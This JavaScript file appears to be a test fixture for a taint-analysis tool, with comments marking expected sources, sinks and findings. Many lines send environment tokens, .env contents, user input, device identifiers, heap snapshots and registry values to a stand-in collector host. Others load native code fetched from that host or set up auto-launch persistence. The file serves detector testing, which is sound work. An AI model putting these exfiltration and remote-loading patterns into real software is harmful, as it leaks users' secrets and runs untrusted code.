// The machine, its user, the process, the environment and the command line.
const axios = require("axios");
const commander = require("commander");
const dotenv = require("dotenv");
const ffi = require("ffi-napi");
const inquirer = require("inquirer");
const machine = require("node-machine-id");
const minimist = require("minimist");
const os = require("os");
const psList = require("ps-list");
const publicIp = require("public-ip");
const readline = require("readline");
const registry = require("registry-js");
const si = require("systeminformation");
const username = require("username");
const util = require("util");
const v8 = require("v8");
const Winreg = require("winreg");
const yargs = require("yargs");
const AutoLaunch = require("auto-launch");

const U = "https://collector.example/u";

function environment() {
  axios.post(U, process.env.TOKEN); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(ENVIRONMENT)
  axios.post(U, { debug: process.env.DEBUG === "1" }); //~ ok
  axios.post(U, dotenv.config().parsed); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2, capability(FILES)
  axios.post(U, { ok: dotenv.config() === null }); //~ ok
}

function commandLine() {
  axios.post(U, process.argv[2]); //~ source(INPUT) f3, sink(egress.http) f3, finding(traced) f3
  axios.post(U, { many: process.argv === "x" }); //~ ok
  axios.post(U, minimist([]).name); //~ source(INPUT) f4, sink(egress.http) f4, finding(traced) f4
  axios.post(U, { debug: minimist([]).debug === 1 }); //~ ok
  axios.post(U, util.parseArgs({}).values); //~ source(INPUT) f5, sink(egress.http) f5, finding(traced) f5
  axios.post(U, { debug: util.parseArgs({}).values === 1 }); //~ ok
}

function yargsParsed() {
  axios.post(U, yargs().option("x", {}).parse().x); //~ source(INPUT) f6, sink(egress.http) f6, finding(traced) f6
  axios.post(U, { debug: yargs().option("x", {}).parse().x === 1 }); //~ ok
  axios.post(U, yargs().argv.x); //~ source(INPUT) f7, sink(egress.http) f7, finding(traced) f7
  axios.post(U, { debug: yargs().argv.x === 1 }); //~ ok
  yargs().command("send", "sends", {}, (argv) => { //~ source(INPUT) f8
    axios.post(U, argv.file); //~ sink(egress.http) f8, finding(traced) f8
  });
  yargs().command("send", "sends", {}, () => axios.post(U, "sent")); //~ ok
}

function commanderParsed() {
  const program = new commander.Command();
  axios.post(U, program.opts().file); //~ source(INPUT) f9, sink(egress.http) f9, finding(traced) f9
  axios.post(U, { debug: program.opts().debug === 1 }); //~ ok
  program.command("send <file>").action((file) => { //~ source(INPUT) f10
    axios.post(U, file); //~ sink(egress.http) f10, finding(traced) f10
  });
  new commander.Command().command("ping").action(() => axios.post(U, "ping")); //~ ok
}

function standardInput() {
  process.stdin.on("data", (chunk) => { //~ source(INPUT) f11
    axios.post(U, chunk); //~ sink(egress.http) f11, finding(traced) f11
  });
  process.stdin.on("end", () => axios.post(U, "end")); //~ ok
  axios.post(U, process.stdin); //~ source(INPUT) f12, sink(egress.http) f12, finding(traced) f12
  axios.post(U, { open: process.stdin === null }); //~ ok
  axios.post(U, process.stdin.read()); //~ source(INPUT) f13, sink(egress.http) f13, finding(traced) f13
  axios.post(U, { open: process.stdin.read() === null }); //~ ok
  axios.post(U, process.stdout.write(process.env.T)); //~ ok
}

function lines() {
  const reader = readline.createInterface({ input: process.stdin }); //~ source(INPUT) f14
  reader.on("line", (line) => {
    axios.post(U, line); //~ sink(egress.http) f14, finding(traced) f14
  });
  readline.createInterface({ input: null }).on("line", (line) => axios.post(U, line)); //~ ok
}

function questions() {
  const reader = readline.createInterface({});
  reader.question("Name?", (name) => { //~ source(INPUT) f15
    axios.post(U, name); //~ sink(egress.http) f15, finding(traced) f15
  });
  reader.question("Go?", () => axios.post(U, "go")); //~ ok
  readline.emitKeypressEvents(process.stdin); //~ capability(KEYBOARD)
  readline.emitKeypressEvents(null); //~ ok
}

async function prompted() {
  axios.post(U, await inquirer.prompt([])); //~ source(INPUT) f16, sink(egress.http) f16, finding(traced) f16
  axios.post(U, { yes: (await inquirer.prompt([])).yes === true }); //~ ok
}

function machineFacts() {
  axios.post(U, os.hostname()); //~ source(DEVICE) f17, sink(egress.http) f17, finding(traced) f17, capability(DEVICE)
  axios.post(U, { linux: os.hostname() === "here" }); //~ ok
  axios.post(U, os.userInfo().username); //~ source(USER) f18, sink(egress.http) f18, finding(traced) f18, capability(DEVICE)
  axios.post(U, { root: os.userInfo().username === "root" }); //~ ok
  axios.post(U, os.tmpdir(process.env.T)); //~ ok
  axios.post(U, process.platform); //~ source(DEVICE) f19, sink(egress.http) f19, finding(traced) f19
  axios.post(U, { windows: process.platform === "win32" }); //~ ok
  axios.post(U, process.getuid()); //~ source(USER) f20, sink(egress.http) f20, finding(traced) f20
  axios.post(U, { root: process.getuid() === 0 }); //~ ok
  axios.post(U, process.cwd()); //~ source(FILE_META) f21, sink(egress.http) f21, finding(traced) f21
  axios.post(U, { root: process.cwd() === "/" }); //~ ok
  axios.post(U, process.pid); //~ source(PROCESS) f22, sink(egress.http) f22, finding(traced) f22
  axios.post(U, { first: process.pid === 1 }); //~ ok
}

function processes() {
  process.kill(1); //~ capability(PROCESSES)
  axios.post(U, process.kill(process.env.T)); //~ ok
  process.on("exit", () => {
    axios.post(U, process.env.T); //~ source(ENVIRONMENT) f23, sink(egress.http) f23, finding(traced) f23
  });
  axios.post(U, process.on(process.env.T, () => null)); //~ ok
}

async function native() {
  const { data } = await axios.get(U); //~ source(NETWORK) f24
  process.dlopen(module, data); //~ sink(exec.load) f24, finding(traced) f24, capability(NATIVE)
  process.dlopen(module, "./addon.node"); //~ ok
  ffi.Library(data, {}); //~ sink(exec.load) f24, finding(traced) f24, capability(NATIVE)
  ffi.Library("libc", {}); //~ ok
}

async function systemFacts() {
  axios.post(U, await si.osInfo()); //~ source(DEVICE) f25, sink(egress.http) f25, finding(traced) f25, capability(DEVICE)
  axios.post(U, { linux: (await si.osInfo()).platform === "linux" }); //~ ok
  axios.post(U, await si.processes()); //~ source(PROCESS) f26, sink(egress.http) f26, finding(traced) f26, capability(PROCESSES)
  axios.post(U, { none: (await si.processes()).all === 0 }); //~ ok
  axios.post(U, await si.users()); //~ source(USER) f27, sink(egress.http) f27, finding(traced) f27, capability(DEVICE)
  axios.post(U, { none: (await si.users()) === null }); //~ ok
  axios.post(U, machine.machineIdSync()); //~ source(DEVICE) f28, sink(egress.http) f28, finding(traced) f28, capability(DEVICE)
  axios.post(U, { known: machine.machineIdSync() === "x" }); //~ ok
  axios.post(U, await publicIp.v4()); //~ source(DEVICE) f29, sink(egress.http) f29, finding(traced) f29, capability(NETWORK)
  axios.post(U, { known: (await publicIp.v4()) === "x" }); //~ ok
  axios.post(U, new Intl.DateTimeFormat().resolvedOptions().timeZone); //~ source(DEVICE) f30, sink(egress.http) f30, finding(traced) f30
  axios.post(U, { utc: new Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC" }); //~ ok
}

function memory() {
  axios.post(U, v8.getHeapSnapshot()); //~ source(MEMORY) f31, sink(egress.http) f31, finding(traced) f31, capability(MEMORY)
  axios.post(U, { none: v8.getHeapSnapshot() === null }); //~ ok
  axios.post(U, v8.serialize(process.env.T)); //~ source(ENVIRONMENT) f32, sink(egress.http) f32, finding(traced) f32
  axios.post(U, v8.serialize("ping")); //~ ok
}

function registryKeys() {
  const key = new Winreg({ hive: "HKCU" }); //~ capability(REGISTRY)
  key.values((err, items) => { //~ source(REGISTRY) f33
    axios.post(U, items); //~ sink(egress.http) f33, finding(traced) f33
  });
  new Winreg({ hive: "HKCU" }).values((err) => axios.post(U, err)); //~ ok
  axios.post(U, registry.enumerateValues("HKCU", "Software")); //~ source(REGISTRY) f34, sink(egress.http) f34, finding(traced) f34, capability(REGISTRY)
  axios.post(U, { none: registry.enumerateValues("HKCU", "Software") === null }); //~ ok
  new (require("winreg"))({ hive: "HKCU" }); //~ ok
}

function persistent() {
  const launch = new AutoLaunch({ name: "x" }); //~ capability(PERSISTENCE)
  axios.post(U, new (require("auto-launch"))({ name: process.env.T })); //~ ok
}
